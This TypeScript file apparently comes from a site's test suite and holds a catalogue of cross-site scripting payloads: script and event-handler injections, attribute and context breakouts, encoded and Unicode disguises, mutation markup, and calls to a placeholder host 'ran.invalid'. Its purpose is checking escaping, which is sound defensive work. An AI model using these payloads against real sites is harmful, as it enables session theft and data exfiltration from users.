/** A value that would run as code if a page took it for anything but text. */
export interface Payload {
  /** A short description of the attack. */
  kind: string;
  /** The name of the place in `browser/unsafe-places.ts` in which a browser runs it; absent for values that never run and only mislead code that parses HTML with patterns. */
  runsIn?: string;
  /** Returns the value that runs a piece of JavaScript. */
  of: (code: string) => string;
}

/** The host that payload code requests; it does not exist. */
export const foreignHost = 'ran.invalid';

/** Code that leaves every trace tests look for: the title, the window name, a message, a request and a dialog. */
export const longCode = `(document.title=self.name=\`ran\`,parent.postMessage(\`ran\`,\`*\`),fetch(\`//${foreignHost}\`),alert(\`ran\`))`;

/** Code for short fields, which only opens a dialog. */
export const shortCode = 'alert(1)';

/** Creates a payload that runs in a place. */
export const runs = (kind: string, runsIn: string, of: Payload['of']): Payload => ({ kind, runsIn, of });
const closing = (kind: string, runsIn: string, endMarker: string) =>
  runs(kind, runsIn, (code) => `${endMarker}<script>${code}</script>`);

const elements: readonly Payload[] = [
  runs('a script', 'text', (code) => `<script>${code}</script>`),
  runs('a script in mixed case with odd spaces', 'text', (code) => `<ScRiPt/x >${code}</sCrIpT\t>`),
  runs('a script that is loaded', 'text', () => `<script src=//${foreignHost}></script>`),
  runs('a script from a data: address', 'text', (code) => `<script src="data:,${code}"></script>`),
  runs('a module', 'text', () => `<script type=module>import"//${foreignHost}"</script>`),
  runs('a script in SVG', 'text', (code) => `<svg><script><![CDATA[${code}]]></script></svg>`),
  runs(
    'a script in a shadow root',
    'text',
    (code) => `<p><template shadowrootmode=open><script>${code}</script></template>`,
  ),
  runs('an image that fails', 'text', (code) => `<img src=x onerror=${code}>`),
  runs('an SVG that loads', 'text', (code) => `<svg onload=${code}>`),
  runs('an animation that begins', 'text', (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`),
  runs('details that open', 'text', (code) => `<details open ontoggle=${code}>`),
  runs('a field with the focus', 'text', (code) => `<input autofocus onfocus=${code}>`),
  runs('a video without a source', 'text', (code) => `<video><source onerror=${code}></video>`),
  runs('a frame with a javascript: address', 'text', (code) => `<iframe src=javascript:${code}></iframe>`),
  runs(
    'a frame with a document of its own',
    'text',
    (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  ),
  runs('a foreign frame', 'text', () => `<iframe src=//${foreignHost}></iframe>`),
  runs('an object', 'text', () => `<object data=//${foreignHost}></object>`),
  runs('a plug-in', 'text', () => `<embed src=//${foreignHost}>`),
  runs('a refresh', 'text', () => `<meta http-equiv=refresh content="0;url=//${foreignHost}">`),
  runs('a base for all addresses', 'text', () => `<base href=//${foreignHost}><img src=x>`),
  runs('a foreign style sheet', 'text', () => `<link rel=stylesheet href=//${foreignHost}>`),
  runs('a style that imports', 'text', () => `<style>@import"//${foreignHost}"</style>`),
  runs('a foreign picture', 'text', () => `<img srcset=//${foreignHost}>`),
  runs('a foreign picture in SVG', 'text', () => `<svg><image href=//${foreignHost} /></svg>`),
  runs(
    'a form that sends itself',
    'clicked text',
    (code) => `<form action=javascript:${code}><input type=submit id=go></form>`,
  ),
  runs('a link with a javascript: address', 'clicked text', (code) => `<a href=javascript:${code}>x</a>`),
  runs(
    'markup in noscript',
    'text',
    (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  ),
  runs(
    'markup that changes when written again',
    'text parsed twice',
    (code) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  ),
];

const breaks: readonly Payload[] = [
  runs('a tag end in a title', 'title attribute cut at >', (code) => `17><script>${code}</script>`),
  runs('a double quote', 'double quotes', (code) => `"><img src=x onerror=${code}>`),
  runs('a single quote', 'single quotes', (code) => `'><img src=x onerror=${code}>`),
  runs(
    'a handler after a double quote',
    'double quotes',
    (code) => `" tabindex=1 autofocus onfocus="${code}`,
  ),
  runs(
    'a handler after a single quote',
    'single quotes',
    (code) => `' tabindex=1 autofocus onfocus='${code}`,
  ),
  runs('a handler after a space', 'no quotes', (code) => `x tabindex=1 autofocus onfocus=${code}`),
  closing('the end of a title', 'title', '</title>'),
  closing('the end of a style', 'style', '</style>'),
  closing('the end of a script', 'string in double quotes', '</script>'),
  closing('the end of a text field', 'text field', '</textarea>'),
  closing('the end of a template', 'template', '</template>'),
  closing('the end of a comment', 'comment', '-->'),
  closing('the odd end of a comment', 'comment', '--!>'),
  runs('the end of CDATA', 'CDATA of SVG', (code) => `]]><script>${code}</script><![CDATA[`),
  runs(
    'a namespace of XML',
    'CDATA of SVG',
    (code) => `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script><![CDATA[`,
  ),
  runs('the end of a string in double quotes', 'string in double quotes', (code) => `"-${code}-"`),
  runs('the end of a string in single quotes', 'string in single quotes', (code) => `'-${code}-'`),
  runs('the end of a template string', 'template string', (code) => `\`-${code}-\``),
  runs('a part of a template string', 'template string', (code) => `\${${code}}`),
  runs('an expression in braces', 'script', (code) => `{${code}}`),
  runs('a line end that only scripts know', 'line comment of a script', (code) => `x\u2028${code}//`),
  runs('a style rule', 'style', () => `"}*{background:url(//${foreignHost})}`),
  runs('a style attribute', 'style attribute', () => `red;background:url(//${foreignHost})`),
];

const disguises: readonly Payload[] = [
  runs('named entities', 'text decoded', (code) => `&lt;script&gt;${code}&lt;/script&gt;`),
  runs('decimal entities', 'text decoded', (code) => `&#60;img src=x onerror=${code}&#62;`),
  runs('entities without their ends', 'text decoded', (code) => `&ltimg src=x onerror=${code}&gt`),
  runs('entities of entities', 'text decoded twice', (code) => `&amp;lt;img src=x onerror=${code}&amp;gt;`),
  runs('percent signs', 'text from an address', (code) => `%3Cimg src=x onerror=${code}%3E`),
  runs('escapes of JSON', 'text from JSON', (code) => `\\u003cimg src=x onerror=${code}\\u003e`),
  runs('wide letters', 'text normalized', (code) => `＜img src=x onerror=${code}＞`),
  runs('soft hyphens', 'text without soft hyphens', (code) => `<im\u00ADg src=x onerr\u00ADor=${code}>`),
  runs(
    'joiners without a width',
    'text without soft hyphens',
    (code) => `<im\u200Dg src=x onerr\u200Dor=${code}>`,
  ),
  runs('a javascript: address', 'address', (code) => `javascript:${code}`),
  runs('a javascript: address in entities', 'address decoded', (code) => `&#106avascript&colon;${code}`),
  runs('a data: address', 'frame', (code) => `data:text/html,<script>${code}</script>`),
  runs('an address without a scheme', 'frame', () => `//${foreignHost}`),
];

/** Values that mislead patterns for tags, attributes or replacements. */
const misleading: readonly Payload[] = [
  'A > B',
  'A < B > C',
  'words target words',
  'words download words',
  ' target="_self" ',
  'href="#top"',
  'src=x',
  '<a href="#x">',
  '</a>',
  '<meta charset="utf-8">',
  '<script src=',
  '<script src=/_astro/x.js></script>',
  '<style>a{}</style>',
  '<link rel="stylesheet">',
  '<!--',
  '<plaintext>',
  '<template data-record="{}">',
  '<record-zoom>',
  '<span class="credit__day">As of <time>x</time></span>',
  'https://frozen.invalid/embed/x/" download',
  'class="tone-blue"',
  "$& $` $' $1 $$",
  '{{constructor.constructor}}',
  '<%= x %><?php x ?>',
  '__proto__',
  '=HYPERLINK("https://example.org")',
].map((value) => ({ kind: `the words ${value}`, of: () => value }));

/** The payloads for every text field. */
export const payloads: readonly Payload[] = [...elements, ...breaks, ...disguises, ...misleading];
